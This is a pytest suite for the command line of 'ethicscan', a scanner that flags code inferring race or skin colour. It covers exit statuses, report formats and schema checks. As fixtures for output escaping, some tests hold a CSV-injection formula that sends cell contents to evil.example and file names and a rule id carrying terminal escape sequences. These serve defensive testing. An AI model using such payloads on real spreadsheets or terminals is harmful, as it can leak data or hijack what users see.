"""The command line, through ethicscan.cli.main (returns the exit status)."""

from __future__ import annotations

import csv
import io
import json
import shutil
import tempfile
from pathlib import Path
from typing import Any

import jsonschema
import pytest

from ethicscan import ScanOptions, __version__, scan
from ethicscan.cli import main
from ethicscan.model import Basis, Capability, HistoryStatus, Severity, SkipReason, Trait
from ethicscan.report import OutputFormat, reporter
from ethicscan.report.csv import COLUMNS, cell
from ethicscan.report.json import schema_text
from ethicscan.rules.catalogue import load_default_catalogue
from unprivileged import run_ethicscan

FINDING_KEYS = {
    "rule",
    "trait",
    "capability",
    "basis",
    "severity",
    "confidence",
    "location",
    "evidence",
    "signals",
    "refs",
    "fingerprint",
}


@pytest.fixture
def tree(tmp_path: Path, face_header_gbk: bytes) -> Path:
    root = tmp_path / "tree"
    (root / "include").mkdir(parents=True)
    (root / "include" / "face_attr.h").write_bytes(face_header_gbk)
    (root / "README.txt").write_text("Build with make.\n", encoding="utf-8")
    return root


@pytest.fixture
def clean_tree(tmp_path: Path) -> Path:
    root = tmp_path / "clean"
    root.mkdir()
    (root / "pool.go").write_text("// avoid a data race: lock before trace()\n", encoding="utf-8")
    (root / "main.py").write_text("print('hello')\n", encoding="utf-8")
    return root


def _json(capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, dict[str, Any]]:
    code = main(["scan", *args, "--format", "json", "--jobs", "1"])
    return code, _report(capsys.readouterr().out)


SCHEMA: dict[str, Any] = json.loads(schema_text())


def _report(text: str, definition: str = "") -> dict[str, Any]:
    """A JSON report (or, with ``definition``, a part of one: ``finding``,
    ``jsonlSummary``) parsed and checked against the published schema."""
    doc: dict[str, Any] = json.loads(text)
    part = {"$defs": SCHEMA["$defs"], "$ref": f"#/$defs/{definition}"}
    schema = part if definition else SCHEMA
    jsonschema.Draft202012Validator(schema).validate(doc)
    return doc


def test_version_names_the_catalogue(capsys: pytest.CaptureFixture[str]) -> None:
    cat = load_default_catalogue()
    assert main(["--version"]) == 0
    out = capsys.readouterr().out
    assert out == f"ethicscan {__version__} (catalogue {cat.version}, {len(cat.rules)} rules)\n"
    assert cat.version[:4].isdigit() and len(cat.rules) > 10


def test_help(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["--help"]) == 0
    out = capsys.readouterr().out
    assert "scan" in out and "rules" in out


def test_json_document(tree: Path, capsys: pytest.CaptureFixture[str]) -> None:
    code, doc = _json(capsys, str(tree))
    assert code == 1
    assert {"schema_version", "tool", "targets", "findings", "skipped", "stats"} <= set(doc)
    assert doc["tool"]["name"] == "ethicscan"
    assert doc["tool"]["version"] == __version__
    assert doc["tool"]["catalogue_version"] == load_default_catalogue().version
    assert [(t["target"], t["kind"]) for t in doc["targets"]] == [(str(tree), "directory")]
    assert {"files", "bytes", "seconds"} <= set(doc["stats"])
    assert doc["stats"]["files"] == 2
    assert doc["skipped"] == []
    assert doc["findings"]
    for f in doc["findings"]:
        assert set(f) >= FINDING_KEYS
        assert {"path", "line", "column"} <= set(f["location"])
        assert {"term", "snippet", "language", "gloss"} <= set(f["evidence"])
        assert f["location"]["path"] == "include/face_attr.h"
        assert isinstance(f["location"]["line"], int)
        assert f["trait"] in {"race", "skin_colour"}
        assert f["capability"] == "inference"
        assert f["basis"] == "biometric"
        assert f["severity"] == "high"
        assert isinstance(f["confidence"], float)
        assert all({"name", "weight", "detail"} <= set(s) for s in f["signals"])
        assert all({"id", "title", "url"} <= set(r) for r in f["refs"])
        assert isinstance(f["fingerprint"], str) and f["fingerprint"]
    assert any(f["evidence"]["term"] == "种族" for f in doc["findings"])  # GBK decoded


def test_json_reports_skipped(tree: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (tree / "logo.png").write_bytes(b"\x89PNG\r\n\x1a\n\x00\x00")
    _, doc = _json(capsys, str(tree), "--fail-on", "never")
    assert doc["skipped"] == [
        {
            "target": str(tree),
            "path": "logo.png",
            "reason": "binary",
            "detail": "PNG image (pictures are not read)",
        }
    ]


def test_exit_status_findings(tree: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["scan", str(tree), "-j", "1"]) == 1  # default --fail-on high
    assert main(["scan", str(tree), "-j", "1", "--fail-on", "never"]) == 0
    assert main(["scan", str(tree), "-j", "1", "--fail-on", "critical"]) == 0
    assert main(["scan", str(tree), "-j", "1", "--fail-on", "info"]) == 1
    assert "findings" in capsys.readouterr().err  # the summary goes to stderr


def test_min_confidence_option(tree: Path, capsys: pytest.CaptureFixture[str]) -> None:
    _, everything = _json(capsys, str(tree))
    _, none = _json(capsys, str(tree), "--min-confidence", "1")
    assert everything["findings"]
    assert none["findings"] == []


def test_clean_tree_exits_0(clean_tree: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["scan", str(clean_tree), "-j", "1"]) == 0
    assert "No findings." in capsys.readouterr().out


@pytest.mark.parametrize(
    "args",
    [
        pytest.param(["scan", "--no-such-option", "."], id="unknown-option"),
        pytest.param(["scan", ".", "--min-confidence", "2"], id="min-confidence-2"),
        pytest.param(["scan", ".", "--min-confidence", "x"], id="min-confidence-not-a-number"),
        pytest.param(["scan", ".", "--jobs", "-1"], id="negative-jobs"),
        pytest.param(["scan", ".", "--fail-on", "sometimes"], id="bad-fail-on"),
        pytest.param(["scan", ".", "--format", "xml"], id="bad-format"),
        pytest.param(["scan"], id="no-target"),
        pytest.param(["frobnicate"], id="unknown-command"),
    ],
)
def test_usage_errors_exit_2(
    args: list[str],
    clean_tree: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    monkeypatch.chdir(clean_tree)
    assert main(args) == 2
    out, err = capsys.readouterr()
    assert out == ""
    assert err.strip()


def test_missing_target_only_exits_2(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["scan", str(tmp_path / "nope")]) == 2
    out, err = capsys.readouterr()
    assert out == ""
    assert "no target could be read" in err


def test_missing_target_beside_a_good_one_exits_2_after_the_report(
    tree: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """CI must not pass on a scan that silently read less than it was asked to: the other
    targets are scanned and reported, the missing one is listed, and the status is 2."""
    missing = str(tmp_path / "nope")
    code = main(["scan", str(tree), missing, "--format", "json", "-j", "1"])
    out, err = capsys.readouterr()
    assert code == 2
    doc = _report(out)
    assert doc["findings"]  # the good target was scanned
    assert [(s["path"], s["reason"]) for s in doc["skipped"]] == [(missing, "not_found")]
    assert "ethicscan: error: 1 of 2 targets could not be read or fetched: " + missing in err
    # Into a file too: the report is written before the status says the scan is incomplete.
    report = tmp_path / "report.json"
    assert main(["scan", str(tree), missing, "-j", "1", "--format", "json", "-o", str(report)]) == 2
    assert _report(report.read_text(encoding="utf-8"))["skipped"][0]["reason"] == "not_found"


def test_keep_going_exits_on_the_findings_alone(
    tree: Path, clean_tree: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    missing = str(tmp_path / "nope")
    assert main(["scan", str(tree), missing, "-j", "1", "--keep-going"]) == 1
    assert main(["scan", str(clean_tree), missing, "-j", "1", "--keep-going"]) == 0
    err = capsys.readouterr().err
    assert "not_found" in err and "ethicscan: error" not in err
    # Nothing readable at all is still an error, --keep-going or not.
    assert main(["scan", missing, "--keep-going"]) == 2
    assert "no target could be read" in capsys.readouterr().err


def _unwritable(tmp_path: Path, case: str) -> tuple[str, str]:
    """An --output path that cannot be written, and the message that says why."""
    if case == "missing-folder":
        return str(tmp_path / "no-such-dir" / "r.json"), "no-such-dir does not exist"
    if case == "is-a-folder":
        return str(tmp_path), "is a folder, not a file"
    (tmp_path / "file.txt").write_text("x", encoding="utf-8")
    return str(tmp_path / "file.txt" / "r.json"), "file.txt is not a folder"


@pytest.mark.parametrize("case", ["missing-folder", "is-a-folder", "parent-is-a-file"])
@pytest.mark.parametrize("option", ["--output", "--write-baseline"])
def test_unwritable_output_exits_2_before_the_scan(
    case: str, option: str, tree: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path, why = _unwritable(tmp_path, case)
    assert main(["scan", str(tree), "-j", "1", option, path]) == 2
    out, err = capsys.readouterr()
    assert out == ""
    assert len(err.splitlines()) == 1
    assert err.startswith(f"ethicscan: error: {option} {path}: ")
    assert err.rstrip().endswith(why)
    assert "files (" not in err  # no summary: the scan never started


def test_output_in_a_read_only_folder_exits_2(face_header_text: str) -> None:
    """A folder the user may not write in (as root, where chmod denies nothing, the scan
    runs as 'nobody')."""
    base = Path(tempfile.mkdtemp(prefix="ethicscan-ro-"))
    try:
        base.chmod(0o755)
        (base / "src").mkdir()
        (base / "src" / "face_attr.h").write_text(face_header_text, encoding="utf-8")
        locked = base / "locked"
        locked.mkdir(mode=0o555)
        locked.chmod(0o555)
        done = run_ethicscan(["scan", "src", "-o", "locked/r.json"], base)
        assert done.returncode == 2, done.stderr
        assert done.stdout == ""
        assert done.stderr == (
            "ethicscan: error: --output locked/r.json: cannot write in folder locked: "
            "Permission denied\n"
        )
        assert not list(locked.iterdir())
    finally:
        (base / "locked").chmod(0o755)
        shutil.rmtree(base)


def test_write_baseline_exits_0_whatever_the_findings(
    tree: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    base = tmp_path / "baseline.json"
    assert (
        main(["scan", str(tree), "-j", "1", "--fail-on", "info", "--write-baseline", str(base)])
        == 0
    )
    assert json.loads(base.read_text(encoding="utf-8"))["findings"]
    assert "baseline written" in capsys.readouterr().err
    # Without it, the same scan fails the gate.
    assert main(["scan", str(tree), "-j", "1", "--fail-on", "info"]) == 1


def test_bad_rules_folder_exits_2(
    clean_tree: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["scan", str(clean_tree), "--rules", str(tmp_path / "no-rules")]) == 2
    assert "not a folder" in capsys.readouterr().err
    bad = tmp_path / "bad-rules"
    bad.mkdir()
    (bad / "x.yml").write_text("rules:\n  - id: x\n    trait: disability\n", encoding="utf-8")
    assert main(["scan", str(clean_tree), "--rules", str(bad)]) == 2
    out, err = capsys.readouterr()
    assert out == ""
    assert "'disability' is not one of" in err


def _clan_rule(tmp_path: Path, tree: Path) -> Path:
    """A folder with one custom rule (a clan field, a trait the catalogue lacks) and a
    person record in ``tree`` that only it finds."""
    rules = tmp_path / "rules"
    rules.mkdir()
    (rules / "clan.yml").write_text(
        "rules:\n  - id: custom-clan\n    trait: ethnicity\n    name: Clan\n"
        "    rationale: Descent-based.\n    refs: [gdpr-9]\n    kind: field\n"
        "    terms: [clan]\n",
        encoding="utf-8",
    )
    (tree / "person.py").write_text("class Person:\n    clan: str\n", encoding="utf-8")
    return rules


def test_custom_rules_folder(
    clean_tree: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    rules = _clan_rule(tmp_path, clean_tree)
    _, doc = _json(capsys, str(clean_tree), "--rules", str(rules))
    assert doc["tool"]["catalogue_version"].endswith("+custom")
    assert [f["rule"] for f in doc["findings"]] == ["custom-clan"]


def _rules(doc: dict[str, Any]) -> set[str]:
    return {f["rule"] for f in doc["findings"]}


def test_disable_drops_a_rules_findings_and_records_it(
    tree: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    _, everything = _json(capsys, str(tree))
    assert {"race-attribute", "skin-colour-attribute"} <= _rules(everything)
    assert everything["tool"]["disabled_rules"] == []
    _, doc = _json(capsys, str(tree), "--disable", "race-attribute")
    assert "race-attribute" not in _rules(doc)
    assert _rules(doc) == _rules(everything) - {"race-attribute"}  # the others untouched
    assert doc["tool"]["disabled_rules"] == ["race-attribute"]
    _, doc = _json(
        capsys, str(tree), *("--disable", "race-attribute", "--disable", "skin-colour-attribute")
    )
    assert "skin-colour-attribute" not in _rules(doc)
    assert doc["tool"]["disabled_rules"] == ["race-attribute", "skin-colour-attribute"]
    # Said to the person too: on stderr, and in the HTML report's "What was scanned".
    main(["scan", str(tree), "-j", "1", "--format", "html", "--disable", "race-attribute"])
    out, err = capsys.readouterr()
    assert "Rules turned off: race-attribute." in err
    assert "; rules turned off: race-attribute</dd>" in out
    main(["scan", str(tree), "-j", "1", "--format", "html"])
    out, err = capsys.readouterr()
    assert "turned off" not in err and "turned off" not in out


@pytest.mark.parametrize("args", [["--disable", "race-atribute"], ["--disable", "race"]])
def test_disable_unknown_rule_exits_2_before_the_scan(
    args: list[str], tree: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["scan", str(tree), "-j", "1", *args]) == 2
    out, err = capsys.readouterr()
    assert out == ""
    assert err == (
        f"ethicscan: error: --disable: unknown rule id '{args[1]}' "
        "(`ethicscan rules` lists the ids)\n"
    )


def test_disable_a_custom_rule(
    clean_tree: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    rules = _clan_rule(tmp_path, clean_tree)
    _, doc = _json(capsys, str(clean_tree), "--rules", str(rules))
    assert _rules(doc) == {"custom-clan"}
    _, doc = _json(capsys, str(clean_tree), "--rules", str(rules), "--disable", "custom-clan")
    assert doc["findings"] == []


def test_output_file(tree: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    out_file = tmp_path / "report.json"
    assert main(["scan", str(tree), "-j", "1", "--format", "json", "--output", str(out_file)]) == 1
    out, err = capsys.readouterr()
    assert out == ""
    assert "findings" in err
    doc = _report(out_file.read_text(encoding="utf-8"))
    assert doc["findings"]
    assert not [p for p in tmp_path.iterdir() if p.name.startswith(".ethicscan-")]


def test_table_output(tree: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["scan", str(tree), "-j", "1"]) == 1
    out = capsys.readouterr().out
    assert "HIGH (" in out
    assert "种族" in out
    assert "include/face_attr.h:" in out
    assert "\x1b" not in out  # not a terminal: no colour


def test_table_places_open_as_path_line_column(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """Each place is ``path:line:col`` as the file is reached from the current folder,
    one line, whether the file was a target of its own, one of several, or in a folder."""
    src = tmp_path / "src" / "deep"
    src.mkdir(parents=True)
    for name in ("face_client.py", "other.py"):
        (src / name).write_text("x = 1\nrace = model.predict_race(face)\n", encoding="utf-8")
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("COLUMNS", "80")
    main(["scan", "src/deep/face_client.py", "-j", "1"])
    out = capsys.readouterr().out
    assert "src/deep/face_client.py:2:1 " in out
    main(["scan", "src/deep/face_client.py", "src/deep/other.py", "-j", "1"])
    out = capsys.readouterr().out
    assert "src/deep/face_client.py:2:1 " in out and "src/deep/other.py:2:1 " in out
    assert "face_client.py/face_client.py" not in out
    main(["scan", str(tmp_path / "src"), "-j", "1"])
    assert "src/deep/face_client.py:2:1 " in capsys.readouterr().out  # absolute, made relative


def test_table_escapes_hostile_file_names(
    tmp_path: Path, face_header_text: str, capsys: pytest.CaptureFixture[str]
) -> None:
    root = tmp_path / "hostile"
    root.mkdir()
    name = "face\x1b[31mred\x1b]0;title\x07\nnext[bold].h"
    (root / name).write_text(face_header_text, encoding="utf-8")
    (root / "bin\x1b[2J.png").write_bytes(b"\x89PNG\r\n\x1a\n\x00")
    assert main(["scan", str(root), "-j", "1"]) == 1
    out = capsys.readouterr().out
    assert "HIGH (" in out
    assert "\x1b" not in out
    assert "\x07" not in out
    assert "\\x1b" in out  # shown escaped
    assert "SKIPPED (1)" in out


def test_rules_command(capsys: pytest.CaptureFixture[str]) -> None:
    cat = load_default_catalogue()
    assert main(["rules"]) == 0
    out = capsys.readouterr().out
    assert cat.version in out
    for rule in cat.rules:
        assert rule.id in out


def test_rules_command_json(capsys: pytest.CaptureFixture[str]) -> None:
    cat = load_default_catalogue()
    assert main(["rules", "--format", "json"]) == 0
    doc = json.loads(capsys.readouterr().out)
    assert doc["catalogue_version"] == cat.version
    assert [r["id"] for r in doc["rules"]] == [r.id for r in cat.rules]
    for raw, rule in zip(doc["rules"], cat.rules, strict=True):
        assert raw["trait"] == rule.trait.value
        assert raw["refs"] == [r.id for r in rule.refs]
        assert len(raw["terms"]) == len(rule.terms)
        assert all({"text", "kind", "lang", "gloss"} <= set(t) for t in raw["terms"])


def test_schema_command_prints_the_packaged_schema(
    repo_root: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["schema"]) == 0
    printed = json.loads(capsys.readouterr().out)
    assert printed == SCHEMA
    assert printed["$schema"] == "https://json-schema.org/draft/2020-12/schema"
    jsonschema.Draft202012Validator.check_schema(printed)
    pyproject = (repo_root / "pyproject.toml").read_text(encoding="utf-8")
    assert '"report/schema.json"' in pyproject  # shipped in the wheel beside the code


@pytest.mark.parametrize(
    ("path", "enum"),
    [
        ("finding/properties/trait", Trait),
        ("finding/properties/capability", Capability),
        ("finding/properties/severity", Severity),
        ("skipped/properties/reason", SkipReason),
    ],
)
def test_schema_enums_are_the_models(path: str, enum: type[Trait]) -> None:
    node: Any = SCHEMA["$defs"]
    for key in path.split("/"):
        node = node[key]
    assert node["enum"] == [m.value for m in enum]


def test_schema_enums_of_optional_fields() -> None:
    finding = SCHEMA["$defs"]["finding"]["properties"]
    assert finding["basis"]["enum"] == [*(b.value for b in Basis), None]
    history = finding["history"]["oneOf"][1]["properties"]["status"]
    assert history["enum"] == [h.value for h in HistoryStatus]


def test_reports_of_examples_and_of_nothing_match_the_schema(
    repo_root: Path,
    clean_tree: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    """A real scan with findings of every kind the demo holds, skipped files and a
    missing target; and a scan that finds nothing."""
    monkeypatch.chdir(repo_root)
    code, doc = _json(capsys, "examples/", "no-such-folder/", "--keep-going")
    assert code == 1
    assert len(doc["findings"]) > 20 and len(doc["skipped"]) >= 2
    assert {s["reason"] for s in doc["skipped"]} >= {"excluded", "not_found"}
    assert {t["kind"] for t in doc["targets"]} == {"directory", "missing"}
    code, doc = _json(capsys, str(clean_tree))
    assert (code, doc["findings"], doc["skipped"]) == (0, [], [])


def test_suppressed_finding_and_file_target_match_the_schema(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    src = tmp_path / "face.py"
    src.write_text(
        "# ethicscan: ignore[race] self-declared, reviewed\nrace = predict_race(face)\n"
        "# ethicscan: ignore[race]\nskin_tone = predict_skin(face)\n",
        encoding="utf-8",
    )
    _, doc = _json(capsys, str(src), "--fail-on", "never")
    assert doc["targets"][0]["kind"] == "file" and len(doc["targets"][0]["sha256"]) == 64
    assert any(f["suppression"] for f in doc["findings"])
    assert doc["warnings"]  # the directive without a reason


def _tree_with_skipped(tree: Path) -> Path:
    (tree / "logo.png").write_bytes(b"\x89PNG\r\n\x1a\n\x00\x00")
    return tree


@pytest.mark.parametrize("to_file", [False, True], ids=["stdout", "output"])
def test_jsonl_is_the_json_findings_a_line_then_a_summary(
    to_file: bool, tree: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    _tree_with_skipped(tree)
    _, doc = _json(capsys, str(tree))
    args = ["scan", str(tree), "-j", "1", "--format", "jsonl"]
    out_file = tmp_path / "report.jsonl"
    assert main([*args, "-o", str(out_file)] if to_file else args) == 1
    text = out_file.read_text(encoding="utf-8") if to_file else capsys.readouterr().out
    lines = text.splitlines()
    assert text.endswith("\n") and len(lines) == len(doc["findings"]) + 1
    assert [_report(x, "finding") for x in lines[:-1]] == doc["findings"]
    last = _report(lines[-1], "jsonlSummary")
    assert last["skipped"] == doc["skipped"] and last["skipped"][0]["reason"] == "binary"
    assert last["warnings"] == doc["warnings"]
    del last["summary"]["stats"]["seconds"], doc["stats"]["seconds"]
    del last["summary"]["started"], doc["started"]
    assert last["summary"] == {k: doc[k] for k in ("schema_version", "tool", "targets", "stats")}


def test_jsonl_line_breaks_in_names_stay_inside_their_line(
    tmp_path: Path, face_header_text: str, capsys: pytest.CaptureFixture[str]
) -> None:
    """U+2028, U+2029 and U+0085 are line breaks to str.splitlines() and to some JSON
    Lines readers: they are written escaped."""
    root = tmp_path / "names"
    root.mkdir()
    (root / "face\u2028attr\x85x\u2029.h").write_text(face_header_text, encoding="utf-8")
    assert main(["scan", str(root), "-j", "1", "--format", "jsonl"]) == 1
    text = capsys.readouterr().out
    assert not {"\u2028", "\u2029", "\x85"} & set(text)
    lines = text.splitlines()
    assert lines == text.split("\n")[:-1]
    findings = [_report(x, "finding") for x in lines[:-1]]
    assert findings and {f["location"]["path"] for f in findings} == {"face\u2028attr\x85x\u2029.h"}


@pytest.mark.parametrize("to_file", [False, True], ids=["stdout", "output"])
def test_csv_rows_are_the_findings_then_skipped_files(
    to_file: bool, tree: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    _tree_with_skipped(tree)
    (tree / "vendor.json").write_text(
        '{"faces": [{"EthicCode": "01", "SkinColor": "1", "face_id": 7}]}\n', encoding="utf-8"
    )
    _, doc = _json(capsys, str(tree))
    args = ["scan", str(tree), "-j", "1", "--format", "csv"]
    out_file = tmp_path / "report.csv"
    assert main([*args, "-o", str(out_file)] if to_file else args) == 1
    text = out_file.read_text(encoding="utf-8") if to_file else capsys.readouterr().out
    header, *rows = list(csv.reader(io.StringIO(text)))
    assert tuple(header) == COLUMNS == (
        "severity", "capability", "trait", "confidence", "path", "line", "column", "rule",
        "term", "snippet", "signals", "end_line", "terms",
    )  # fmt: skip
    assert len(rows) == len(doc["findings"]) + 1
    for row, f in zip(rows, doc["findings"], strict=False):  # the last row: logo.png
        loc = f["location"]
        assert dict(zip(header, row, strict=True)) == {
            "severity": f["severity"],
            "capability": f["capability"],
            "trait": f["trait"],
            "confidence": str(f["confidence"]),
            "path": f"{tree}/{loc['path']}",
            "line": str(loc["line"]),
            "column": str(loc["column"]),
            "rule": f["rule"],
            "term": f["evidence"]["term"],
            "snippet": f["evidence"]["snippet"],
            "signals": ";".join(s["name"] for s in f["signals"]),
            "end_line": "" if loc["end_line"] is None else str(loc["end_line"]),
            "terms": ";".join(f["evidence"]["terms"]),
        }
    assert any('"' in r[9] for r in rows)  # quotes in a snippet survive the round trip
    assert rows[-1] == [
        "skipped", "", "", "", f"{tree}/logo.png", "", "", "", "",
        "binary: PNG image (pictures are not read)", "", "", "",
    ]  # fmt: skip


def test_csv_cells_are_never_formulas(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Scanned text that a spreadsheet would run (=, +, -, @) gets a leading quote."""
    root = tmp_path / "evil"
    root.mkdir()
    lines = [
        '=HYPERLINK("http://evil.example/?"&A1,"race")',
        "+race = predict_race(face)",
        "-race: str",
        "@race = classify(face)",
    ]
    (root / "face.py").write_text("\n".join(lines) + "\n", encoding="utf-8")
    (root / "-x.png").write_bytes(b"\x89PNG\r\n\x1a\n\x00")
    main(["scan", str(root), "-j", "1", "--format", "csv", "--fail-on", "never"])
    _header, *rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    assert sorted(r[9] for r in rows if r[0] != "skipped") == sorted("'" + x for x in lines)
    for row in rows:
        assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in row)


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\\t=1"),
        ("\r=1", "'\\r=1"),
        ("a\x1b[2Jb\nc", "a\\x1b[2Jb\\nc"),
        ("a=1", "a=1"),
        ("0.91", "0.91"),
        (12, "12"),
    ],
)
def test_csv_cell(value: object, shown: str) -> None:
    assert cell(value) == shown


def test_scan_help_lists_every_format(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["scan", "--help"]) == 0
    out = capsys.readouterr().out
    for fmt in OutputFormat:
        assert fmt.value in out


def test_every_output_format_has_one_reporter() -> None:
    from ethicscan.report import REPORTERS

    assert list(REPORTERS) == list(OutputFormat)


@pytest.mark.parametrize("fmt", list(OutputFormat), ids=lambda f: f.value)
def test_every_output_format_renders(
    fmt: OutputFormat, tree: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    result = scan([str(tree)], ScanOptions(jobs=1))
    text = reporter(fmt)(result)
    assert isinstance(text, str) and text.strip()
    assert "face_attr.h" in text
    empty = scan([str(tree / "README.txt")], ScanOptions(jobs=1))
    assert reporter(fmt)(empty).strip()
    assert main(["scan", str(tree), "-j", "1", "--format", fmt.value]) == 1
    assert "face_attr.h" in capsys.readouterr().out


def test_error_messages_escape_what_a_rule_file_put_in_them(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A rule id with an escape sequence (OSC: set the terminal's title) is shown escaped."""
    rules = tmp_path / "rules"
    rules.mkdir()
    (rules / "evil.yml").write_text(
        'rules:\n  - id: "bad\\e]0;pwned\\aid"\n    trait: race\n', encoding="utf-8"
    )
    (tmp_path / "a.py").write_text("x = 1\n", encoding="utf-8")
    assert main(["scan", str(tmp_path / "a.py"), "--rules", str(rules)]) == 2
    err = capsys.readouterr().err
    assert "\x1b" not in err and "\x07" not in err
    assert "bad\\x1b]0;pwned\\x07id" in err


def test_fail_on_and_engine_names_are_declared_once() -> None:
    """--fail-on takes what a configuration file's fail-on takes, --engine what the
    engine table holds, and the library and the engine table refuse a bad engine
    with the same message."""
    import click

    from ethicscan import config
    from ethicscan.cli import scan_cmd
    from ethicscan.engine import ENGINES, get_engine
    from ethicscan.errors import ConfigError

    choices = {
        p.name: list(p.type.choices)
        for p in scan_cmd.params
        if isinstance(p.type, click.Choice) and p.name in ("fail_on", "engine")
    }
    assert choices == {"fail_on": list(config.FAIL_ON), "engine": list(ENGINES)}
    with pytest.raises(ConfigError) as by_options:
        ScanOptions(engine="warp")
    with pytest.raises(ConfigError) as by_table:
        get_engine("warp")
    assert (
        str(by_options.value)
        == str(by_table.value)
        == ("unknown engine 'warp' (one of: local, dask)")
    )
